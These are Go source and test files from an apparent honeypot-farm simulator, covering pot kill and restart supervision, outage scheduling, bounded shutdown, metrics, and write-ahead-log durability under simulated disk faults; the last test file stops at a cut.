	defer f.mu.Unlock()
	return time.Until(f.states[pot].holdUntil)
}

// tryRestart is the Restarter's attempt callback: re-bind pot's
// listeners unless the request was superseded. A bind conflict retries
// with the next backoff step.
func (f *Farm) tryRestart(pot, gen, _ int) faults.RestartOutcome {
	f.mu.Lock()
	defer f.mu.Unlock()
	st := &f.states[pot]
	if f.stopped || st.up || st.gen != gen {
		// Superseded: farm stopping, already restarted, or a newer
		// takedown owns this pot now.
		return faults.RestartDone
	}
	if err := f.bindLocked(pot); err != nil {
		return faults.RestartRetry
	}
	f.stats.Restarts++
	return faults.RestartDone
}

// Kill takes honeypot i down as if it crashed: listeners unbind, its
// in-flight connections are severed, and the supervisor restarts it
// after backoff. No-op when the pot is already down or the farm is
// stopping.
func (f *Farm) Kill(i int) { f.killUntil(i, time.Time{}) }

func (f *Farm) killUntil(i int, hold time.Time) {
	f.mu.Lock()
	st := &f.states[i]
	if f.stopped || !st.up {
		f.mu.Unlock()
		return
	}
	st.up = false
	st.gen++
	st.holdUntil = hold
	ls := st.listeners
	st.listeners = nil
	gen := st.gen
	f.stats.Kills++
	f.mu.Unlock()
	for _, l := range ls {
		_ = l.Close()
	}
	f.connMu.Lock()
	for c, pot := range f.conns {
		if pot == i {
			_ = c.Close()
		}
	}
	f.connMu.Unlock()
	f.restarter.Request(i, gen)
}

// scheduleOutages arms one timer goroutine per planned outage window,
// mapping plan days to wall-clock via Config.DayLength. Caller holds
// f.mu (during Start).
func (f *Farm) scheduleOutages() {
	dl := f.cfg.DayLength
	for _, o := range f.cfg.Faults.Outages {
		if o.Pot < 0 || o.Pot >= len(f.pots) {
			continue
		}
		o := o
		f.wg.Add(1)
		go func() {
			defer f.wg.Done()
			select {
			case <-f.stopCh:
				return
			case <-time.After(time.Duration(o.FirstDay) * dl):
			}
			f.killUntil(o.Pot, time.Now().Add(time.Duration(o.Days())*dl))
		}()
	}
}

// Stop unbinds all listeners and drains in-flight sessions, bounded by
// Config.DrainTimeout: connections still alive at the deadline are
// force-closed, and records they emit afterwards are counted as dropped
// rather than collected. Stop is idempotent and always returns with the
// farm's goroutines joined.
func (f *Farm) Stop() {
	f.mu.Lock()
	restarter := f.restarter
	if f.stopped {
		f.mu.Unlock()
		f.wg.Wait()
		if restarter != nil {
			restarter.Wait()
		}
		return
	}
	f.stopped = true
	f.started = false
	close(f.stopCh)
	f.takedownAllLocked()
	drain := f.cfg.DrainTimeout
	if drain == 0 {
		drain = DefaultDrainTimeout
	}
	f.mu.Unlock()

	done := make(chan struct{})
	go func() {
		f.wg.Wait()
		if restarter != nil {
			restarter.Wait()
		}
		close(done)
	}()
	if drain > 0 {
		select {
		case <-done:
			return
		case <-time.After(drain):
		}
	}
	// Deadline passed (or immediate teardown requested): sever every
	// lingering connection and drop whatever records still trickle in.
	f.mu.Lock()
	f.forced = true
	f.mu.Unlock()
	f.connMu.Lock()
	for c := range f.conns {
		_ = c.Close()
	}
	f.connMu.Unlock()
	<-done
}

// takedownAllLocked closes every bound listener. Caller holds f.mu.
func (f *Farm) takedownAllLocked() {
	for i := range f.states {
		st := &f.states[i]
		st.up = false
		for _, l := range st.listeners {
			_ = l.Close()
		}
		st.listeners = nil
	}
}
