package farm_test

// Golden over the supervisor metric surface. A farm that has not been
// started has every counter at zero and every pot down, so the golden
// pins names, help strings, and label sets with fully deterministic
// values; the increment test then checks the gauges and counters track
// a live farm.

import (
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"honeyfarm/internal/farm"
	"honeyfarm/internal/geo"
	"honeyfarm/internal/metrics"
	"honeyfarm/internal/sshwire"
)

var updateGolden = flag.Bool("update", false, "rewrite the metrics golden files")

func newTestFarm(t *testing.T) *farm.Farm {
	t.Helper()
	f, err := farm.New(farm.Config{
		Seed:     9,
		NumPots:  3,
		Registry: geo.NewRegistry(geo.Config{Seed: 9}),
	})
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func TestFarmMetricsGolden(t *testing.T) {
	f := newTestFarm(t)
	reg := metrics.NewRegistry()
	farm.RegisterFarmMetrics(reg, f)
	got := reg.Render()

	golden := filepath.Join("testdata", "farm_metrics.golden.txt")
	if *updateGolden {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(golden, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("missing golden (run go test ./internal/farm -update): %v", err)
	}
	if string(got) != string(want) {
		t.Fatalf("exposition changed\ngot:\n%s\nwant:\n%s", got, want)
	}
}

func TestFarmMetricsTrackSessions(t *testing.T) {
	f := newTestFarm(t)
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}
	defer f.Stop()

	reg := metrics.NewRegistry()
	farm.RegisterFarmMetrics(reg, f)

	conn, err := f.Fabric().Dial("198.51.100.7", f.SSHAddr(1))
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(conn, &sshwire.ClientConfig{User: "root", Password: "farm-metrics"})
	if err != nil {
		t.Fatal(err)
	}
	sess, err := cc.OpenSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := sshwire.RequestShell(sess); err != nil {
		t.Fatal(err)
	}
	if err := sess.Close(); err != nil {
		t.Fatal(err)
	}
	_ = cc.Close()

	deadline := time.Now().Add(5 * time.Second)
	for f.Stats().Accepted < 1 {
		if time.Now().After(deadline) {
			t.Fatalf("farm never counted the session: %+v", f.Stats())
		}
		time.Sleep(10 * time.Millisecond)
	}

	out := string(reg.Render())
	for _, want := range []string{
		"honeyfarm_farm_sessions_accepted_total 1\n",
		`honeyfarm_farm_pot_sessions_total{pot="1"} 1` + "\n",
		`honeyfarm_farm_pot_up{pot="0"} 1` + "\n",
		`honeyfarm_farm_pot_up{pot="1"} 1` + "\n",
		`honeyfarm_farm_pot_up{pot="2"} 1` + "\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %q in exposition:\n%s", want, out)
		}
	}
	if f.AcceptedByPot(1) != 1 {
		t.Errorf("AcceptedByPot(1) = %d, want 1", f.AcceptedByPot(1))
	}
}
