package farm

import (
	"encoding/json"
	"io"
	"testing"
	"time"

	"honeyfarm/internal/geo"
	"honeyfarm/internal/query"
	"honeyfarm/internal/sshwire"
	"honeyfarm/internal/telnet"
)

func smallFarm(t *testing.T) *Farm {
	t.Helper()
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	f, err := New(Config{
		Seed:      1,
		NumPots:   8,
		NumASes:   6,
		Countries: []string{"US", "SG", "DE", "JP", "BR", "ZA"},
		Registry:  reg,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(f.Stop)
	return f
}

func TestFarmPlacementMetadata(t *testing.T) {
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	f, err := New(Config{Seed: 3, Registry: reg})
	if err != nil {
		t.Fatal(err)
	}
	// Paper deployment: 221 honeypots, 55 countries, 65 ASes (Figure 1).
	deps := f.Deployments()
	if len(deps) != 221 {
		t.Fatalf("pots = %d, want 221", len(deps))
	}
	countries := map[string]bool{}
	ases := map[uint32]bool{}
	for _, d := range deps {
		countries[d.Country] = true
		ases[d.ASN] = true
	}
	if len(countries) != 55 || len(ases) != 65 {
		t.Errorf("countries=%d ases=%d, want 55/65", len(countries), len(ases))
	}
}

func TestFarmRequiresRegistry(t *testing.T) {
	if _, err := New(Config{}); err == nil {
		t.Fatal("New without registry should fail")
	}
}

func TestFarmDoubleStart(t *testing.T) {
	f := smallFarm(t)
	if err := f.Start(); err == nil {
		t.Fatal("second Start should fail")
	}
}

func TestWireLevelSSHSessionIntoCollector(t *testing.T) {
	f := smallFarm(t)
	nc, err := f.Fabric().Dial("203.0.113.7", f.SSHAddr(2))
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "hunter2"})
	if err != nil {
		t.Fatal(err)
	}
	sess, err := cc.OpenSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := sshwire.RequestExec(sess, "uname -a"); err != nil {
		t.Fatal(err)
	}
	_, _ = io.ReadAll(sess)
	cc.Close()

	deadline := time.Now().Add(5 * time.Second)
	for f.Collector().Len() == 0 && time.Now().Before(deadline) {
		time.Sleep(5 * time.Millisecond)
	}
	recs := f.Collector().Records()
	if len(recs) != 1 {
		t.Fatalf("collector records = %d", len(recs))
	}
	r := recs[0]
	if r.HoneypotID != 2 {
		t.Errorf("honeypot id = %d, want 2", r.HoneypotID)
	}
	if r.ClientIP != "203.0.113.7" || len(r.Commands) != 1 {
		t.Errorf("record = %+v", r)
	}
}

func TestWireLevelTelnetSessionIntoCollector(t *testing.T) {
	f := smallFarm(t)
	nc, err := f.Fabric().Dial("203.0.113.8", f.TelnetAddr(0))
	if err != nil {
		t.Fatal(err)
	}
	c := telnet.NewConn(nc, false)
	ok, err := telnet.ClientLogin(c, "root", "1234")
	if err != nil || !ok {
		t.Fatalf("telnet login ok=%v err=%v", ok, err)
	}
	nc.Close()

	deadline := time.Now().Add(5 * time.Second)
	for f.Collector().Len() == 0 && time.Now().Before(deadline) {
		time.Sleep(5 * time.Millisecond)
	}
	recs := f.Collector().Records()
	if len(recs) != 1 || recs[0].HoneypotID != 0 {
		t.Fatalf("records = %+v", recs)
	}
	if !recs[0].LoggedIn() {
		t.Error("telnet login not recorded")
	}
}

func TestEveryHoneypotReachable(t *testing.T) {
	f := smallFarm(t)
	for i := range f.Deployments() {
		nc, err := f.Fabric().Dial("198.51.100.77", f.SSHAddr(i))
		if err != nil {
			t.Fatalf("dial pot %d: %v", i, err)
		}
		cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{SkipAuth: true})
		if err != nil {
			t.Fatalf("handshake pot %d: %v", i, err)
		}
		cc.Close()
	}
	deadline := time.Now().Add(5 * time.Second)
	for f.Collector().Len() < len(f.Deployments()) && time.Now().Before(deadline) {
		time.Sleep(5 * time.Millisecond)
	}
	if got := f.Collector().Len(); got != len(f.Deployments()) {
		t.Errorf("collector = %d records, want %d", got, len(f.Deployments()))
	}
}

func TestDeploymentGeoConsistency(t *testing.T) {
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	f, err := New(Config{Seed: 2, Registry: reg})
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range f.Deployments() {
		loc, ok := reg.Lookup(d.IP)
		if !ok {
			t.Fatalf("honeypot %d IP not in registry", d.ID)
		}
		if loc.Country != d.Country || loc.ASN != d.ASN {
			t.Errorf("honeypot %d: deployment says %s/AS%d, registry says %s/AS%d",
				d.ID, d.Country, d.ASN, loc.Country, loc.ASN)
		}
	}
}

// TestFarmTeeFeedsQueryEngine wires a live aggregation engine into the
// farm via Config.Tee: wire-level sessions reach the engine in
// collector acceptance order, so its sealed snapshot is byte-identical
// to one fed the collector's records directly.
func TestFarmTeeFeedsQueryEngine(t *testing.T) {
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	mk := func() *query.Engine {
		return query.New(query.Config{
			Epoch:    time.Date(2021, 12, 1, 0, 0, 0, 0, time.UTC),
			NumPots:  8,
			Registry: reg,
		})
	}
	eng := mk()
	f, err := New(Config{
		Seed:      1,
		NumPots:   8,
		NumASes:   6,
		Countries: []string{"US", "SG", "DE", "JP", "BR", "ZA"},
		Registry:  reg,
		Tee:       eng.Ingest,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 3; i++ {
		nc, err := f.Fabric().Dial("203.0.113.9", f.SSHAddr(i))
		if err != nil {
			t.Fatal(err)
		}
		cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "hunter2"})
		if err != nil {
			t.Fatal(err)
		}
		sess, err := cc.OpenSession()
		if err != nil {
			t.Fatal(err)
		}
		if err := sshwire.RequestExec(sess, "id"); err != nil {
			t.Fatal(err)
		}
		_, _ = io.ReadAll(sess)
		cc.Close()
	}
	deadline := time.Now().Add(5 * time.Second)
	for f.Collector().Len() < 3 && time.Now().Before(deadline) {
		time.Sleep(5 * time.Millisecond)
	}
	f.Stop()

	recs := f.Collector().Records()
	if len(recs) != 3 {
		t.Fatalf("collector records = %d, want 3", len(recs))
	}
	got := eng.Seal()
	if got.Seq != uint64(len(recs)) {
		t.Fatalf("tee-fed engine seq = %d, want %d", got.Seq, len(recs))
	}
	direct := mk()
	direct.Ingest(recs)
	a, err := json.Marshal(got)
	if err != nil {
		t.Fatal(err)
	}
	b, err := json.Marshal(direct.Seal())
	if err != nil {
		t.Fatal(err)
	}
	if string(a) != string(b) {
		t.Fatalf("tee-fed snapshot diverges from direct ingest\ntee:    %.200s\ndirect: %.200s", a, b)
	}
}
