package farm

import (
	"errors"
	"io"
	"runtime"
	"syscall"
	"testing"
	"time"

	"honeyfarm/internal/faults"
	"honeyfarm/internal/geo"
	"honeyfarm/internal/iofault"
	"honeyfarm/internal/sshwire"
	"honeyfarm/internal/wal"
)

// TestDurableCollectorSurvivesInWAL: with a WAL as the farm's durable
// sink, a collected session is recoverable from disk alone.
func TestDurableCollectorSurvivesInWAL(t *testing.T) {
	dir := t.TempDir()
	epoch := time.Date(2021, 12, 1, 0, 0, 0, 0, time.UTC)
	log, rec, err := wal.Open(dir, wal.Options{Epoch: epoch, SyncEvery: 1})
	if err != nil {
		t.Fatal(err)
	}
	if rec.Records() != 0 {
		t.Fatalf("fresh WAL has %d records", rec.Records())
	}

	reg := geo.NewRegistry(geo.Config{Seed: 1})
	f, err := New(Config{
		Seed: 1, NumPots: 4, NumASes: 4,
		Countries: []string{"US", "SG", "DE", "JP"},
		Registry:  reg, Epoch: epoch, Durable: log,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}

	nc, err := f.Fabric().Dial("203.0.113.9", f.SSHAddr(1))
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "admin"})
	if err != nil {
		t.Fatal(err)
	}
	cc.Close()
	waitFor(t, 5*time.Second, func() bool { return f.Collector().Len() == 1 }, "record collected")
	f.Stop()
	if err := f.DurableErr(); err != nil {
		t.Fatalf("durable sink error: %v", err)
	}
	if err := log.Close(); err != nil {
		t.Fatal(err)
	}

	// The in-memory collector is gone with the process; the WAL is not.
	_, rec2, err := wal.Open(dir, wal.Options{})
	if err != nil {
		t.Fatal(err)
	}
	replayed := rec2.Replay()
	if replayed.Len() != 1 {
		t.Fatalf("WAL replay has %d records, want 1", replayed.Len())
	}
	got := replayed.Records()[0]
	want := f.Collector().Records()[0]
	if got.ClientIP != want.ClientIP || got.HoneypotID != want.HoneypotID || !got.Start.Equal(want.Start) {
		t.Fatalf("replayed record %+v != collected %+v", got, want)
	}
}

// TestENOSPCWindowFarm: a disk-full window while the farm is live is
// count-and-drop, not crash. Records collected during the outage stay
// in the dataset and are counted in Stats.DurableLost; when the disk
// heals, the WAL resumes on a fresh segment without a process restart,
// and recovery reads the outage back as a gap frame.
func TestENOSPCWindowFarm(t *testing.T) {
	base := runtime.NumGoroutine()
	dir := t.TempDir()
	epoch := time.Date(2021, 12, 1, 0, 0, 0, 0, time.UTC)
	fsys, err := iofault.New(iofault.OS, iofault.Plan{})
	if err != nil {
		t.Fatal(err)
	}
	log, _, err := wal.Open(dir, wal.Options{
		Epoch: epoch, SyncEvery: 1, FS: fsys,
		RetryAttempts: 2,
		RetryPlan:     &faults.Plan{BackoffBaseMS: 1, BackoffCapMS: 1},
		ProbeEvery:    1,
	})
	if err != nil {
		t.Fatal(err)
	}

	reg := geo.NewRegistry(geo.Config{Seed: 1})
	f, err := New(Config{
		Seed: 1, NumPots: 4, NumASes: 4,
		Countries: []string{"US", "SG", "DE", "JP"},
		Registry:  reg, Epoch: epoch, Durable: log,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}

	// session drives one SSH login against pot 1, producing one record.
	session := func(ip string, wantLen int) {
		t.Helper()
		nc, err := f.Fabric().Dial(ip, f.SSHAddr(1))
		if err != nil {
			t.Fatal(err)
		}
		cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "admin"})
		if err != nil {
			t.Fatal(err)
		}
		cc.Close()
		waitFor(t, 5*time.Second, func() bool { return f.Collector().Len() == wantLen }, "record collected")
	}

	// Healthy disk: the first record persists cleanly.
	session("203.0.113.20", 1)
	if n := f.Stats().DurableLost; n != 0 {
		t.Fatalf("durable lost = %d before the outage, want 0", n)
	}

	// Disk full: the record is collected, counted as lost, and the farm
	// keeps running.
	fsys.Break(syscall.ENOSPC)
	session("203.0.113.21", 2)
	if n := f.Stats().DurableLost; n != 1 {
		t.Fatalf("durable lost = %d during the outage, want 1", n)
	}
	derr := f.DurableErr()
	if !errors.Is(derr, wal.ErrDegraded) || !errors.Is(derr, syscall.ENOSPC) {
		t.Fatalf("durable error %v, want ErrDegraded wrapping ENOSPC", derr)
	}
	if h := log.Health(); !h.Degraded {
		t.Fatalf("WAL not degraded during the outage: %+v", h)
	}

	// Heal: the next record's append probes (ProbeEvery: 1), rolls a
	// fresh segment, and persists — no restart, no new losses.
	fsys.Heal()
	session("203.0.113.22", 3)
	h := log.Health()
	if h.Degraded || h.Recoveries != 1 || h.DroppedRecords != 1 {
		t.Fatalf("WAL health after heal = %+v, want recovered with 1 dropped record", h)
	}
	if n := f.Stats().DurableLost; n != 1 {
		t.Fatalf("durable lost = %d after heal, want still 1", n)
	}

	f.Stop()
	if err := log.Close(); err != nil {
		t.Fatal(err)
	}
	waitGoroutines(t, base)

	// Recovery sees the two persisted records plus a gap frame carrying
	// the outage's loss accounting.
	_, rec, err := wal.Open(dir, wal.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if rec.Replay().Len() != 2 {
		t.Fatalf("recovered %d records, want 2", rec.Replay().Len())
	}
	if len(rec.Gaps) != 1 || rec.Gaps[0].Records != 1 || rec.Gaps[0].Reason != "append: enospc" {
		t.Fatalf("recovered gaps %+v, want one append:enospc gap of 1 record", rec.Gaps)
	}
}

// TestSinkDropAccountedPerPot: a record arriving while its pot is down
// is dropped AND attributed to that pot in the fault report, so
// durability losses are distinguishable from injected faults.
func TestSinkDropAccountedPerPot(t *testing.T) {
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	f, err := New(Config{
		Seed: 1, NumPots: 4, NumASes: 4,
		Countries: []string{"US", "SG", "DE", "JP"},
		Registry:  reg,
		// Huge backoff: the killed pot stays down for the whole test.
		Faults: &faults.Plan{Seed: 9, BackoffBaseMS: 60_000, BackoffCapMS: 60_000},
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(f.Stop)

	// Open a session against pot 2, then kill the pot mid-session: the
	// severed handler still finishes its record, which now has nowhere
	// to go.
	nc, err := f.Fabric().Dial("203.0.113.10", f.SSHAddr(2))
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "admin"})
	if err != nil {
		t.Fatal(err)
	}
	defer cc.Close()
	f.Kill(2)
	go func() { _, _ = io.ReadAll(nc) }()

	waitFor(t, 5*time.Second, func() bool { return f.Stats().DroppedRecords == 1 }, "record dropped")
	rep := f.FaultReport(10)
	if rep.Pots[2].SinkDrops != 1 {
		t.Fatalf("pot 2 sink drops = %d, want 1 (report %+v)", rep.Pots[2].SinkDrops, rep.Pots)
	}
	if rep.TotalDropped() != 1 {
		t.Fatalf("total dropped = %d, want 1", rep.TotalDropped())
	}
	if f.Collector().Len() != 0 {
		t.Fatalf("collector kept %d records, want 0", f.Collector().Len())
	}
}
