package farm

import (
	"io"
	"testing"
	"time"

	"honeyfarm/internal/faults"
	"honeyfarm/internal/geo"
	"honeyfarm/internal/sshwire"
	"honeyfarm/internal/wal"
)

// TestDurableCollectorSurvivesInWAL: with a WAL as the farm's durable
// sink, a collected session is recoverable from disk alone.
func TestDurableCollectorSurvivesInWAL(t *testing.T) {
	dir := t.TempDir()
	epoch := time.Date(2021, 12, 1, 0, 0, 0, 0, time.UTC)
	log, rec, err := wal.Open(dir, wal.Options{Epoch: epoch, SyncEvery: 1})
	if err != nil {
		t.Fatal(err)
	}
	if rec.Records() != 0 {
		t.Fatalf("fresh WAL has %d records", rec.Records())
	}

	reg := geo.NewRegistry(geo.Config{Seed: 1})
	f, err := New(Config{
		Seed: 1, NumPots: 4, NumASes: 4,
		Countries: []string{"US", "SG", "DE", "JP"},
		Registry:  reg, Epoch: epoch, Durable: log,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}

	nc, err := f.Fabric().Dial("203.0.113.9", f.SSHAddr(1))
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "admin"})
	if err != nil {
		t.Fatal(err)
	}
	cc.Close()
	waitFor(t, 5*time.Second, func() bool { return f.Collector().Len() == 1 }, "record collected")
	f.Stop()
	if err := f.DurableErr(); err != nil {
		t.Fatalf("durable sink error: %v", err)
	}
	if err := log.Close(); err != nil {
		t.Fatal(err)
	}

	// The in-memory collector is gone with the process; the WAL is not.
	_, rec2, err := wal.Open(dir, wal.Options{})
	if err != nil {
		t.Fatal(err)
	}
	replayed := rec2.Replay()
	if replayed.Len() != 1 {
		t.Fatalf("WAL replay has %d records, want 1", replayed.Len())
	}
	got := replayed.Records()[0]
	want := f.Collector().Records()[0]
	if got.ClientIP != want.ClientIP || got.HoneypotID != want.HoneypotID || !got.Start.Equal(want.Start) {
		t.Fatalf("replayed record %+v != collected %+v", got, want)
	}
}

// TestSinkDropAccountedPerPot: a record arriving while its pot is down
// is dropped AND attributed to that pot in the fault report, so
// durability losses are distinguishable from injected faults.
func TestSinkDropAccountedPerPot(t *testing.T) {
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	f, err := New(Config{
		Seed: 1, NumPots: 4, NumASes: 4,
		Countries: []string{"US", "SG", "DE", "JP"},
		Registry:  reg,
		// Huge backoff: the killed pot stays down for the whole test.
		Faults: &faults.Plan{Seed: 9, BackoffBaseMS: 60_000, BackoffCapMS: 60_000},
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(f.Stop)

	// Open a session against pot 2, then kill the pot mid-session: the
	// severed handler still finishes its record, which now has nowhere
	// to go.
	nc, err := f.Fabric().Dial("203.0.113.10", f.SSHAddr(2))
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "admin"})
	if err != nil {
		t.Fatal(err)
	}
	defer cc.Close()
	f.Kill(2)
	go func() { _, _ = io.ReadAll(nc) }()

	waitFor(t, 5*time.Second, func() bool { return f.Stats().DroppedRecords == 1 }, "record dropped")
	rep := f.FaultReport(10)
	if rep.Pots[2].SinkDrops != 1 {
		t.Fatalf("pot 2 sink drops = %d, want 1 (report %+v)", rep.Pots[2].SinkDrops, rep.Pots)
	}
	if rep.TotalDropped() != 1 {
		t.Fatalf("total dropped = %d, want 1", rep.TotalDropped())
	}
	if f.Collector().Len() != 0 {
		t.Fatalf("collector kept %d records, want 0", f.Collector().Len())
	}
}
