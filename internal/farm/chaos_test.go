package farm

import (
	"errors"
	"io"
	"runtime"
	"sync"
	"testing"
	"time"

	"honeyfarm/internal/faults"
	"honeyfarm/internal/geo"
	"honeyfarm/internal/netsim"
	"honeyfarm/internal/sshwire"
)

// waitFor polls cond until it holds or the deadline passes.
func waitFor(t *testing.T, d time.Duration, cond func() bool, what string) {
	t.Helper()
	deadline := time.Now().Add(d)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("timed out waiting for %s", what)
}

// waitGoroutines fails the test if the goroutine count does not settle
// back to the baseline (small slack for runtime helpers).
func waitGoroutines(t *testing.T, base int) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		if runtime.NumGoroutine() <= base+3 {
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
	buf := make([]byte, 1<<20)
	n := runtime.Stack(buf, true)
	t.Fatalf("goroutine leak: %d running, baseline %d\n%s",
		runtime.NumGoroutine(), base, buf[:n])
}

// TestStopBoundedWithStalledClient is the regression test for the
// unbounded Stop hang: a client that connects and then goes silent used
// to block wg.Wait() until the pre-auth timeout (or forever, with long
// timeouts). Stop must now force-close it at the drain deadline.
func TestStopBoundedWithStalledClient(t *testing.T) {
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	f, err := New(Config{
		Seed:      1,
		NumPots:   4,
		NumASes:   4,
		Countries: []string{"US", "SG", "DE", "JP"},
		Registry:  reg,
		// Long enough that only the forced drain can end the session.
		PreAuthTimeout: time.Hour,
		DrainTimeout:   100 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}
	nc, err := f.Fabric().Dial("203.0.113.9", f.SSHAddr(0))
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	// Never write, never read, never close: the honeypot sits in its
	// pre-auth read. Give the farm a moment to accept the connection.
	waitFor(t, 2*time.Second, func() bool {
		f.connMu.Lock()
		defer f.connMu.Unlock()
		return len(f.conns) == 1
	}, "connection to be tracked")

	start := time.Now()
	f.Stop()
	if elapsed := time.Since(start); elapsed > 3*time.Second {
		t.Fatalf("Stop took %v with a stalled client, want ~drain deadline", elapsed)
	}
	if st := f.Stats(); st.DroppedRecords < 1 {
		t.Errorf("stats = %+v, want the force-closed session counted as dropped", st)
	}
}

func TestStopIdempotent(t *testing.T) {
	f := smallFarm(t)
	f.Stop()
	f.Stop() // second call must neither panic nor hang
}

// TestKillAndSupervisorRestart: a killed pot unbinds, severs its
// connections, and comes back after backoff.
func TestKillAndSupervisorRestart(t *testing.T) {
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	f, err := New(Config{
		Seed:      1,
		NumPots:   4,
		NumASes:   4,
		Countries: []string{"US", "SG", "DE", "JP"},
		Registry:  reg,
		Faults:    &faults.Plan{Seed: 9, BackoffBaseMS: 1, BackoffCapMS: 20},
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(f.Stop)

	// An in-flight connection must be severed by the kill.
	nc, err := f.Fabric().Dial("203.0.113.5", f.SSHAddr(1))
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()

	f.Kill(1)
	if f.PotUp(1) {
		t.Fatal("pot still up right after Kill")
	}
	readErr := make(chan error, 1)
	go func() {
		_, err := io.ReadAll(nc)
		readErr <- err
	}()
	select {
	case <-readErr:
		// Severed (EOF surfaces as nil from ReadAll, reset as error);
		// either way the read did not hang.
	case <-time.After(3 * time.Second):
		t.Fatal("in-flight conn not severed by Kill")
	}

	waitFor(t, 5*time.Second, func() bool { return f.PotUp(1) }, "supervisor restart")
	// The revived pot serves real sessions again.
	nc2, err := f.Fabric().Dial("203.0.113.6", f.SSHAddr(1))
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc2, &sshwire.ClientConfig{SkipAuth: true})
	if err != nil {
		t.Fatalf("handshake after restart: %v", err)
	}
	cc.Close()

	st := f.Stats()
	if st.Kills < 1 || st.Restarts < 1 {
		t.Errorf("stats = %+v, want ≥1 kill and ≥1 restart", st)
	}
}

// TestOutageWindowsScheduled: planned outages take pots down at their
// first day and the supervisor revives them after the window.
func TestOutageWindowsScheduled(t *testing.T) {
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	plan := &faults.Plan{
		Seed:          4,
		BackoffBaseMS: 1,
		BackoffCapMS:  20,
		Outages: []faults.Outage{
			{Pot: 0, FirstDay: 0, LastDay: 1},
			{Pot: 1, FirstDay: 1, LastDay: 2},
			{Pot: 2, FirstDay: 2, LastDay: 3},
		},
	}
	f, err := New(Config{
		Seed:      1,
		NumPots:   4,
		NumASes:   4,
		Countries: []string{"US", "SG", "DE", "JP"},
		Registry:  reg,
		Faults:    plan,
		DayLength: 20 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(f.Stop)

	waitFor(t, 5*time.Second, func() bool { return f.Stats().Kills >= 3 },
		"all three outage windows to fire")
	waitFor(t, 5*time.Second, func() bool {
		return f.PotUp(0) && f.PotUp(1) && f.PotUp(2) && f.PotUp(3)
	}, "all pots back up after their windows")
	if st := f.Stats(); st.Restarts < 3 {
		t.Errorf("stats = %+v, want ≥3 restarts", st)
	}
}

// TestChaosFarm is the acceptance chaos run: ≥20% connection-fault rate,
// three pot outage windows, dozens of concurrent attackers, and at the
// end zero leaked goroutines with Stop inside the drain deadline.
func TestChaosFarm(t *testing.T) {
	baseline := runtime.NumGoroutine()
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	plan := &faults.Plan{
		Seed:          99,
		RefuseRate:    0.10,
		ResetRate:     0.07,
		StallRate:     0.05, // 22% total connection-fault rate
		JitterRate:    0.20,
		MaxJitterMS:   2,
		BackoffBaseMS: 1,
		BackoffCapMS:  20,
		Outages: []faults.Outage{
			{Pot: 1, FirstDay: 0, LastDay: 2},
			{Pot: 3, FirstDay: 1, LastDay: 3},
			{Pot: 5, FirstDay: 2, LastDay: 4},
		},
	}
	if err := plan.Validate(); err != nil {
		t.Fatal(err)
	}
